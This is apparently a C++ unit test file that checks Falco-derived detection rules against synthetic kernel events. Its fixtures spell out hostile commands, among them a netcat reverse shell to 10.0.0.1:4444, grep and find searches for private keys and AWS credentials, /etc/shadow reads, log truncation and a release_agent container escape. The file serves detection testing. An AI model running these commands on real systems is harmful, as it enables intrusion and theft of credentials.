// Falco's stable rules (../shared/fixtures/falco/falco_rules.yaml) on synthetic events shaped as
// the eBPF sensor and the process tree deliver them: which rules load, and that each enabled rule
// fires on the event it describes (and not on a near miss). The same rules on real events of this
// host: tests/unit/sensor_ebpf/policy_live_test.cc.

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/ptrace.h>
#include <sys/socket.h>

#include <algorithm>
#include <set>

#include "policy/default_rules.h"
#include "policy/rules.h"

namespace vigil::policy {
namespace {

constexpr int32_t kNrPtrace = 101, kNrSymlinkat = 266, kNrLinkat = 265, kNrSocket = 41;
constexpr uint64_t kCapSysAdmin = 1ull << 21, kCapSysModule = 1ull << 16, kCapDacOverride = 1ull << 1;

const RuleSet& Stable() {
  static const RuleSet* set = [] {
    auto r = RuleSet::LoadFiles({VIGIL_SHARED_DIR "/fixtures/falco/falco_rules.yaml"});
    EXPECT_TRUE(r.has_value()) << r.error().message();
    return new RuleSet(std::move(r).value());
  }();
  return *set;
}

struct Case {
  core::Event event;
  EvalInput in;
  Case() {
    event.source = core::EventSource::kEbpf;
    event.seq = 1;  // never_true is evt.num=0
    event.proc.pid = 1000;
    event.proc.tid = 1000;
    event.proc.ppid = 999;
    event.proc.uid = 0;
    event.time_ns = 2'000'000'000'000;
    in.user_name = "root";
    in.ancestors = {{"bash", "/usr/bin/bash", {"bash"}}, {"sshd", "/usr/sbin/sshd", {"sshd"}}};
  }
  std::set<std::string> Fired() {
    in.event = &event;
    std::set<std::string> out;
    for (const Match& m : Stable().Evaluate(in)) out.insert(m.rule->name);
    return out;
  }
};

#define EXPECT_FIRES(c, rule)                                        \
  do {                                                               \
    const std::set<std::string> fired = (c).Fired();                 \
    EXPECT_TRUE(fired.count(rule)) << ::testing::PrintToString(fired); \
  } while (0)

Case Open(const std::string& comm, const std::string& path, uint32_t flags, int64_t ret = 3) {
  Case c;
  c.event.kind = core::EventKind::kFileOpen;
  c.event.syscall = {core::Arch::kX86_64, 257};
  c.event.proc.comm = comm;
  c.event.proc.exe = "/usr/bin/" + comm;
  c.event.path = path;
  c.event.flags = flags;
  c.event.has_ret = true;
  c.event.ret = ret;
  c.in.argv = {comm};
  return c;
}

Case Exec(const std::string& comm, const std::string& exe, std::vector<std::string> argv) {
  Case c;
  c.event.kind = core::EventKind::kProcessExec;
  c.event.proc.comm = comm;
  c.event.proc.exe = exe;
  c.event.path = exe;
  c.in.argv = std::move(argv);
  return c;
}

Case Typed(const std::string& comm, int32_t nr) {
  Case c;
  c.event.kind = core::EventKind::kTypedCall;
  c.event.syscall = {core::Arch::kX86_64, nr};
  c.event.proc.comm = comm;
  c.event.has_ret = true;
  return c;
}

void InContainer(Case* c) {
  c->in.container_id = std::string(64, 'a');
  c->in.container_image = "docker.io/library/debian:12";
  c->in.container_privileged = 0;
}

TEST(StableRulesTest, AtLeastNinetyPercentLoadEnabled) {
  const RuleSet& set = Stable();
  ASSERT_EQ(set.rules().size(), 25u);
  std::vector<std::string> disabled;
  for (const Rule& r : set.rules()) {
    if (!r.enabled) disabled.push_back(r.name + ": " + r.disabled_reason);
  }
  EXPECT_GE(set.enabled_count() * 100, set.rules().size() * 90)
      << ::testing::PrintToString(disabled);
  // The embedded default policy is the same file.
  auto embedded = RuleSet::LoadString(DefaultRules(), kDefaultRulesName);
  ASSERT_TRUE(embedded.has_value()) << embedded.error().message();
  EXPECT_EQ(embedded->enabled_count(), set.enabled_count());
}

TEST(StableRulesTest, SensitiveFileReads) {
  Case c = Open("vigil-reader", "/etc/shadow", O_RDONLY);
  EXPECT_FIRES(c, "Read sensitive file untrusted");
  c = Open("vigil-reader", "/etc/shadow", O_WRONLY);
  EXPECT_FALSE(c.Fired().count("Read sensitive file untrusted"));  // not a read
  c = Open("sshd", "/etc/shadow", O_RDONLY);
  EXPECT_FALSE(c.Fired().count("Read sensitive file untrusted"));  // trusted program
  c = Open("vigil-reader", "/etc/hostname", O_RDONLY);
  EXPECT_TRUE(c.Fired().empty());

  // A relative path resolved against the working directory.
  c = Open("vigil-reader", "../etc/pam.d/sshd", O_RDONLY);
  c.in.cwd = "/root";
  EXPECT_FIRES(c, "Read sensitive file untrusted");

  // A server process long after its start.
  c = Open("nginx", "/etc/shadow", O_RDONLY);
  c.in.proc_start_time_ns = c.event.time_ns - 60'000'000'000;
  EXPECT_FIRES(c, "Read sensitive file trusted after startup");
  c.in.proc_start_time_ns = c.event.time_ns - 1'000'000'000;
  EXPECT_FALSE(c.Fired().count("Read sensitive file trusted after startup"));
}

TEST(StableRulesTest, DirectoryTraversalAndFailedOpens) {
  Case c = Open("vigil-reader", "/var/www/../../etc/../etc/passwd", O_RDONLY);
  c.in.ancestors[0].name = "php-fpm";
  EXPECT_FIRES(c, "Directory traversal monitored file read");
  c = Open("vigil-reader", "/var/www/../../etc/nonexistent", O_RDONLY, -ENOENT);
  c.in.ancestors[0].name = "php-fpm";
  EXPECT_FIRES(c, "Directory traversal monitored file read");
  c = Open("vigil-reader", "/etc/passwd", O_RDONLY);
  EXPECT_FALSE(c.Fired().count("Directory traversal monitored file read"));
}

TEST(StableRulesTest, ClearLogs) {
  Case c = Open("vigil-writer", "/var/log/syslog", O_WRONLY | O_TRUNC);
  EXPECT_FIRES(c, "Clear Log Activities");
  c = Open("vigil-writer", "/var/log/syslog", O_WRONLY | O_APPEND);
  EXPECT_FALSE(c.Fired().count("Clear Log Activities"));
}

TEST(StableRulesTest, LinksOverSensitiveFiles) {
  Case c = Typed("ln", kNrSymlinkat);
  c.event.path = "/etc/shadow";
  c.event.path2 = "/tmp/x";
  EXPECT_FIRES(c, "Create Symlink Over Sensitive Files");
  c.event.path = "/etc/hosts";
  EXPECT_FALSE(c.Fired().count("Create Symlink Over Sensitive Files"));
  c = Typed("ln", kNrLinkat);
  c.event.path = "/etc/shadow";
  c.event.path2 = "/tmp/y";
  EXPECT_FIRES(c, "Create Hardlink Over Sensitive Files");
}

TEST(StableRulesTest, Ptrace) {
  Case c = Typed("evil", kNrPtrace);
  c.event.args = {PTRACE_TRACEME, 0, 0, 0};
  EXPECT_FIRES(c, "PTRACE anti-debug attempt");
  c.event.args = {PTRACE_ATTACH, 42, 0, 0};
  EXPECT_FIRES(c, "PTRACE attached to process");
  c.event.args = {PTRACE_PEEKDATA, 42, 0, 0};
  EXPECT_TRUE(c.Fired().empty());
}

TEST(StableRulesTest, ProcessLaunches) {
  Case c = Exec("grep", "/usr/bin/grep", {"grep", "-r", "BEGIN RSA PRIVATE", "/home"});
  EXPECT_FIRES(c, "Search Private Keys or Passwords");
  c = Exec("find", "/usr/bin/find", {"find", "/", "-path", "/root/.aws/credentials"});
  EXPECT_FIRES(c, "Find AWS Credentials");
  c = Exec("shred", "/usr/bin/shred", {"shred", "-u", "/tmp/f"});
  EXPECT_FIRES(c, "Remove Bulk Data from Disk");
  c = Exec("x", "/dev/shm/x", {"/dev/shm/x"});
  EXPECT_FIRES(c, "Execution from /dev/shm");
  c = Exec("x", "./x", {"./x"});
  c.in.cwd = "/dev/shm/work";
  EXPECT_FIRES(c, "Execution from /dev/shm");
  c = Exec("x", "/dev/fd/3", {"x"});
  c.event.flags = core::kExecFromMemfd;
  EXPECT_FIRES(c, "Fileless execution via memfd_create");
  c.event.flags = 0;
  EXPECT_FALSE(c.Fired().count("Fileless execution via memfd_create"));
  // A shell below a web server.
  c = Exec("sh", "/bin/sh", {"sh", "-c", "id"});
  c.in.ancestors = {{"nginx", "/usr/sbin/nginx", {"nginx"}}, {"systemd", "/sbin/init", {}}};
  EXPECT_FIRES(c, "Run shell untrusted");
  c.in.ancestors = {{"bash", "/bin/bash", {"bash"}}, {"sshd", "/usr/sbin/sshd", {}}};
  EXPECT_FALSE(c.Fired().count("Run shell untrusted"));
  // A system user in an ssh session.
  c = Exec("ls", "/bin/ls", {"ls"});
  c.in.user_name = "www-data";
  EXPECT_FIRES(c, "System user interactive");
}

TEST(StableRulesTest, Containers) {
  Case c = Exec("bash", "/bin/bash", {"bash"});
  InContainer(&c);
  c.event.proc.tty = (136u << 20) | 0;
  c.in.ancestors = {{"runc:[1:CHILD]", "", {}}};
  EXPECT_FIRES(c, "Terminal shell in container");
  c.event.proc.tty = 0;
  EXPECT_FALSE(c.Fired().count("Terminal shell in container"));

  c = Exec("nc", "/usr/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
  InContainer(&c);
  EXPECT_FIRES(c, "Netcat Remote Code Execution in Container");

  c = Exec("debugfs", "/sbin/debugfs", {"debugfs", "/dev/sda1"});
  InContainer(&c);
  c.in.container_privileged = 1;
  EXPECT_FIRES(c, "Debugfs Launched in Privileged Container");
  c.in.container_privileged = 0;
  EXPECT_FALSE(c.Fired().count("Debugfs Launched in Privileged Container"));

  c = Open("sh", "/sys/fs/cgroup/x/release_agent", O_WRONLY);
  InContainer(&c);
  c.event.proc.has_caps = true;
  c.event.proc.cap_effective = kCapSysAdmin | kCapDacOverride;
  EXPECT_FIRES(c, "Detect release_agent File Container Escapes");
  c.event.proc.cap_effective = kCapDacOverride;
  EXPECT_FALSE(c.Fired().count("Detect release_agent File Container Escapes"));

  c = Typed("tcpdump", kNrSocket);
  InContainer(&c);
  c.event.args = {AF_PACKET, SOCK_RAW, 0, 0};
  EXPECT_FIRES(c, "Packet socket created in container");
  c.event.args = {AF_INET, SOCK_STREAM, 0, 0};
  EXPECT_FALSE(c.Fired().count("Packet socket created in container"));

  c = Typed("insmod", 313);  // finit_module
  InContainer(&c);
  c.event.proc.has_caps = true;
  c.event.proc.cap_effective = kCapSysModule;
  EXPECT_FIRES(c, "Linux Kernel Module Injection Detected");
}

TEST(StableRulesTest, SshOnNonStandardPort) {
  Case c;
  c.event.kind = core::EventKind::kNetConnect;
  c.event.syscall = {core::Arch::kX86_64, 42};
  c.event.proc.comm = "ssh";
  c.event.proc.exe = "/usr/bin/ssh";
  c.in.argv = {"ssh", "-p", "443", "user@host"};
  c.event.net = {"203.0.113.7", 443, 6};
  c.event.has_ret = true;
  c.event.ret = -EINPROGRESS;
  EXPECT_FIRES(c, "Disallowed SSH Connection Non Standard Port");
  c.event.net.daddr = "192.168.1.5";  // RFC 1918: not outbound
  EXPECT_FALSE(c.Fired().count("Disallowed SSH Connection Non Standard Port"));
  c.event.net = {"203.0.113.7", 22, 6};
  EXPECT_FALSE(c.Fired().count("Disallowed SSH Connection Non Standard Port"));
}

}  // namespace
}  // namespace vigil::policy
